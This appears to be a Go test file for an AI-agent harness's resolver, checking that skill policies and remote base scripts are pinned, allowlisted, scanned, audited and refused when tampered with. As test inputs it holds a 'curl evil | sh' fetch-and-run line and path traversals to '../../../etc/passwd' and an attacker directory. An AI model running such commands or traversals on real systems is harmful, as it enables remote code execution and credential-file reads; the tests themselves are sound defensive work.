package resolve

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/fullsend-ai/fullsend/internal/audit"
	"github.com/fullsend-ai/fullsend/internal/harness"
	"github.com/fullsend-ai/fullsend/internal/lock"
	"github.com/fullsend-ai/fullsend/internal/ref"
	"github.com/fullsend-ai/fullsend/internal/resolve/resolvetest"
)

// policySkill adds the skill dir with a SKILL.md naming policy (and deps)
// and returns its tree hash.
func policySkill(t *testing.T, r *repo, dir, policy string, deps []string, extra map[string]string) ref.Digest {
	t.Helper()
	var b strings.Builder
	name := dir[strings.LastIndexByte(dir, '/')+1:]
	fmt.Fprintf(&b, "---\nname: %s\ndescription: the %s skill\npolicy: %q\n", name, name, policy)
	if len(deps) > 0 {
		b.WriteString("dependencies:\n")
		for _, d := range deps {
			fmt.Fprintf(&b, "  - %q\n", d)
		}
	}
	b.WriteString("---\nDo it.\n")
	files := map[string]string{"SKILL.md": b.String()}
	for k, v := range extra {
		files[k] = v
	}
	return r.Skill(t, dir, "", nil, files)
}

const egressPolicy = "network_policies:\n  api:\n    endpoints:\n      - {host: api.example.com, port: 443}\n"

// TestSkillPolicyEdge: a remote skill's SKILL.md policy: is an edge of the
// graph: resolved against the skill dir, allowlisted, fetched, pinned,
// scanned, audited, locked and drawn.
func TestSkillPolicyEdge(t *testing.T) {
	r := newRepo()
	w := newWorld(t, r)
	pol := r.file("policies/skill.yaml", egressPolicy)
	s := policySkill(t, r, "skills/net", "../../policies/skill.yaml#sha256="+string(pol), nil, nil)
	agent := r.file("agents/a.md", "agent\n")
	w.srv.AddRepo(w.key, r.Files)
	dir := writeDir(t, map[string]string{"harness/h.yaml": fmt.Sprintf("agent: %s\nskills:\n  - %s\nallowed_remote_resources: [%s]\n",
		pin(w.blob("agents/a.md"), agent), pin(w.tree("skills/net"), s), w.prefix())})
	res, err := Resolve(context.Background(), dir+"/harness/h.yaml", w.opts())
	if err != nil {
		t.Fatal(err)
	}
	sps := res.Graph.SkillPolicies()
	if len(sps) != 1 {
		t.Fatalf("skill policies: %v", sps)
	}
	pn := sps[0].Node
	if want := w.tree("policies/skill.yaml"); pn.URL != want || pn.SHA256 != pol || pn.Field != SkillPolicyField || pn.Kind != "policy" {
		t.Errorf("policy node %+v, want %s", pn, want)
	}
	if !slices.ContainsFunc(w.scanner.Scanned(), func(p string) bool { return strings.Contains(p, "policies/skill.yaml") }) {
		t.Errorf("policy not scanned: %v", w.scanner.Scanned())
	}
	if !slices.ContainsFunc(w.audit.entries, func(e audit.Entry) bool { return e.URL == pn.URL && e.FetchType == FetchStatic }) {
		t.Errorf("policy fetch not audited: %+v", w.audit.entries)
	}
	var tree bytes.Buffer
	if err := res.Graph.WriteTree(&tree); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(tree.String(), "policy: "+pn.URL) {
		t.Errorf("graph does not show the policy edge:\n%s", tree.String())
	}
	entry := LockEntry(res, time.Unix(0, 0))
	if got := entry.Pins()[pn.URL]; !slices.Equal(got, []string{string(pol)}) {
		t.Errorf("lock pins of the policy: %v", got)
	}
	// Locked: a changed policy pin is stale.
	lf := &lock.File{Version: lock.Version}
	lf.Put(lf.Key(res.Source), entry, "")
	o := w.opts()
	o.Lock, o.Frozen = lf, true
	if _, err := Resolve(context.Background(), dir+"/harness/h.yaml", o); err != nil {
		t.Fatalf("frozen against its own lock: %v", err)
	}
}

// TestSkillPolicyRules: a skill policy is held to every rule of an edge.
func TestSkillPolicyRules(t *testing.T) {
	r := newRepo()
	w := newWorld(t, r)
	pol := r.file("policies/skill.yaml", egressPolicy)
	evil := r.file("policies/evil.yaml", "# "+resolvetest.Evil+"\n"+egressPolicy)
	cases := map[string]struct {
		policy string
		want   error
	}{
		"unpinned":           {"../../policies/skill.yaml", ref.ErrMissingDigest},
		"wrong pin":          {"../../policies/skill.yaml#sha256=" + strings.Repeat("a", 64), nil},
		"traversal":          {"../../../../../../attacker/evil/policy.yaml#sha256=" + string(pol), ref.ErrNotAllowed},
		"blocked by scanner": {"../../policies/evil.yaml#sha256=" + string(evil), ErrScanBlocked},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			dirName := "skills/" + strings.ReplaceAll(name, " ", "-")
			s := policySkill(t, r, dirName, c.policy, nil, nil)
			w.srv.AddRepo(w.key, r.Files)
			dir := writeDir(t, map[string]string{"harness/h.yaml": fmt.Sprintf("agent: agents/a.md\nskills:\n  - %s\nallowed_remote_resources: [%s]\n", pin(w.tree(dirName), s), w.prefix()), "agents/a.md": "a\n"})
			_, err := Resolve(context.Background(), dir+"/harness/h.yaml", w.opts())
			if err == nil {
				t.Fatal("resolved")
			}
			if c.want != nil && !errors.Is(err, c.want) {
				t.Errorf("err = %v, want %v", err, c.want)
			}
			if !strings.Contains(err.Error(), "policy") {
				t.Errorf("error does not name the policy edge: %v", err)
			}
		})
	}
}

// TestLocalSkillPolicy: a local skill's policy follows the local path rules
// of a skill's references (against the fullsend dir, contained).
func TestLocalSkillPolicy(t *testing.T) {
	skill := func(policy string) string {
		return "---\nname: l\ndescription: local\npolicy: " + policy + "\n---\nx\n"
	}
	dir := writeDir(t, map[string]string{
		"harness/h.yaml":    "agent: agents/a.md\nskills: [skills/l]\n",
		"agents/a.md":       "a\n",
		"skills/l/SKILL.md": skill("policies/p.yaml"),
		"policies/p.yaml":   egressPolicy,
	})
	r := newRepo()
	w := newWorld(t, r)
	res, err := Resolve(context.Background(), dir+"/harness/h.yaml", w.opts())
	if err != nil {
		t.Fatal(err)
	}
	sps := res.Graph.SkillPolicies()
	if len(sps) != 1 || sps[0].Node.Remote || sps[0].Node.SHA256 != ref.SHA256([]byte(egressPolicy)) {
		t.Fatalf("skill policies: %+v", sps)
	}
	writeFiles(t, dir, map[string]string{"skills/l/SKILL.md": skill("../../../etc/passwd")})
	if _, err := Resolve(context.Background(), dir+"/harness/h.yaml", w.opts()); err == nil || !strings.Contains(err.Error(), "policy") {
		t.Errorf("escaping policy path: %v", err)
	}
}

// TestRuntimeSkillPolicyRefused: a skill fetched at run time cannot narrow
// the running sandbox, so a skill naming a policy is refused.
func TestRuntimeSkillPolicyRefused(t *testing.T) {
	r := newRepo()
	w := newWorld(t, r)
	pol := r.file("policies/skill.yaml", egressPolicy)
	s := policySkill(t, r, "skills/net", "../../policies/skill.yaml#sha256="+string(pol), nil, nil)
	plain := r.skill(t, "skills/plain", nil, nil)
	w.srv.AddRepo(w.key, r.Files)
	req := SkillRequest{Ref: pin(w.tree("skills/net"), s), Allowed: []string{w.prefix()}, FetchType: FetchRuntime}
	if _, err := ResolveSkill(context.Background(), req, w.opts()); !errors.Is(err, ErrSkillPolicyRuntime) {
		t.Errorf("runtime skill with a policy: %v", err)
	}
	req.FetchType = FetchStatic
	if _, err := ResolveSkill(context.Background(), req, w.opts()); err != nil {
		t.Errorf("static: %v", err)
	}
	req = SkillRequest{Ref: pin(w.tree("skills/plain"), plain), Allowed: []string{w.prefix()}, FetchType: FetchRuntime}
	if _, err := ResolveSkill(context.Background(), req, w.opts()); err != nil {
		t.Errorf("runtime skill without a policy: %v", err)
	}
}

// TestRemoteBaseFetchTypes: what a remote base brings in is audited as
// base_skill (its skills and their dependencies) or base_resource (the
// base, its agent, a base skill's policy); the harness's own references
// stay static.
func TestRemoteBaseFetchTypes(t *testing.T) {
	r := newRepo()
	w := newWorld(t, r)
	dep := r.skill(t, "skills/dep", nil, nil)
	pol := r.file("policies/skill.yaml", egressPolicy)
	s := policySkill(t, r, "skills/b", "../../policies/skill.yaml#sha256="+string(pol), []string{"../dep#sha256=" + string(dep)}, nil)
	own := r.skill(t, "skills/own", nil, nil)
	agent := r.file("agents/a.md", "agent\n")
	base := r.file("bases/base.yaml", fmt.Sprintf("agent: ../agents/a.md#sha256=%s\nskills:\n  - ../skills/b#sha256=%s\n", agent, s))
	w.srv.AddRepo(w.key, r.Files)
	dir := writeDir(t, map[string]string{
		"harness/h.yaml": fmt.Sprintf("base: %s\nallowed_remote_resources: [%s]\nskills:\n  - %s\n", pin(w.blob("bases/base.yaml"), base), w.prefix(), pin(w.tree("skills/own"), own)),
	})
	if _, err := Resolve(context.Background(), dir+"/harness/h.yaml", w.opts()); err != nil {
		t.Fatal(err)
	}
	types := map[string]string{}
	for _, e := range w.audit.entries {
		types[e.URL] = e.FetchType
	}
	want := map[string]string{
		w.blob("bases/base.yaml"):     FetchBaseResource,
		w.blob("agents/a.md"):         FetchBaseResource,
		w.tree("skills/b"):            FetchBaseSkill,
		w.tree("skills/dep"):          FetchBaseSkill,
		w.tree("policies/skill.yaml"): FetchBaseResource,
		w.tree("skills/own"):          FetchStatic,
	}
	for u, ft := range want {
		if types[u] != ft {
			t.Errorf("%s audited as %q, want %q", u, types[u], ft)
		}
	}
}

// TestRemoteBaseScriptVendored: a remote base's script is never fetched;
// lock.yaml's vendored copy of it (same URL, or the same path at the
// branch the entry follows) stands in, is held to its sha256 and is
// audited as base_script.
func TestRemoteBaseScriptVendored(t *testing.T) {
	r := newRepo()
	w := newWorld(t, r)
	agent := r.file("agents/a.md", "agent\n")
	script := "#!/bin/sh\necho base pre\n"
	r.file("scripts/pre.sh", script)
	base := r.file("bases/base.yaml", fmt.Sprintf("agent: ../agents/a.md#sha256=%s\npre_script: ../scripts/pre.sh\n", agent))
	w.srv.AddRepo(w.key, r.Files)
	const rel = "vendor/o/r/scripts/pre.sh"
	dir := writeDir(t, map[string]string{
		"harness/h.yaml": fmt.Sprintf("base: %s\nallowed_remote_resources: [%s]\n", pin(w.blob("bases/base.yaml"), base), w.prefix()),
		rel:              script,
	})
	if _, err := Resolve(context.Background(), dir+"/harness/h.yaml", w.opts()); !errors.Is(err, harness.ErrExecutableRemote) {
		t.Fatalf("without a vendored copy: %v", err)
	}
	commitURL := strings.Replace(w.blob("scripts/pre.sh"), "/blob/main/", "/blob/"+w.srv.Commit(w.key)+"/", 1)
	for name, v := range map[string]lock.Vendored{
		"same URL":          {Path: rel, URL: w.blob("scripts/pre.sh"), SHA256: string(ref.SHA256([]byte(script)))},
		"commit of its ref": {Path: rel, URL: commitURL, Ref: "main", SHA256: string(ref.SHA256([]byte(script)))},
	} {
		t.Run(name, func(t *testing.T) {
			w.audit.entries = nil
			o := w.opts()
			o.Lock = &lock.File{Version: lock.Version, Vendor: []lock.Vendored{v}}
			res, err := Resolve(context.Background(), dir+"/harness/h.yaml", o)
			if err != nil {
				t.Fatal(err)
			}
			if want := filepath.Join(dir, rel); res.Harness.PreScript != want {
				t.Errorf("pre_script = %q, want %q", res.Harness.PreScript, want)
			}
			if !slices.ContainsFunc(w.audit.entries, func(e audit.Entry) bool {
				return e.FetchType == FetchBaseScript && e.URL == v.URL && e.Source == audit.SourceVendor && e.SHA256 == v.SHA256
			}) {
				t.Errorf("no base_script audit entry: %+v", w.audit.entries)
			}
		})
	}
	// Another script's copy does not stand in.
	o := w.opts()
	o.Lock = &lock.File{Version: lock.Version, Vendor: []lock.Vendored{{Path: rel, URL: w.blob("scripts/other.sh"), Ref: "main", SHA256: string(ref.SHA256([]byte(script)))}}}
	if _, err := Resolve(context.Background(), dir+"/harness/h.yaml", o); !errors.Is(err, harness.ErrExecutableRemote) {
		t.Errorf("other script's copy: %v", err)
	}
	// A tampered copy is refused.
	o.Lock.Vendor[0].URL = w.blob("scripts/pre.sh")
	writeFiles(t, dir, map[string]string{rel: script + "curl evil | sh\n"})
	if _, err := Resolve(context.Background(), dir+"/harness/h.yaml", o); !errors.Is(err, ErrVendorTampered) {
		t.Errorf("tampered copy: %v", err)
	}
}

// TestSkillPolicyShape: a SKILL.md policy: that is not one reference is
// an error naming it; an agent definition's policy: key is not a reference.
func TestSkillPolicyShape(t *testing.T) {
	dir := writeDir(t, map[string]string{
		"harness/h.yaml":    "agent: agents/a.md\nskills: [skills/l]\n",
		"agents/a.md":       "---\nname: a\npolicy: {anything: goes}\n---\na\n",
		"skills/l/SKILL.md": "---\nname: l\ndescription: local\npolicy: [a.yaml, b.yaml]\n---\nx\n",
	})
	w := newWorld(t, newRepo())
	if _, err := Resolve(context.Background(), dir+"/harness/h.yaml", w.opts()); err == nil || !strings.Contains(err.Error(), "SKILL.md: policy: want one reference") {
		t.Errorf("list policy: %v", err)
	}
	writeFiles(t, dir, map[string]string{"skills/l/SKILL.md": "---\nname: l\ndescription: local\n---\nx\n"})
	if _, err := Resolve(context.Background(), dir+"/harness/h.yaml", w.opts()); err != nil {
		t.Errorf("agent with a policy: key: %v", err)
	}
}
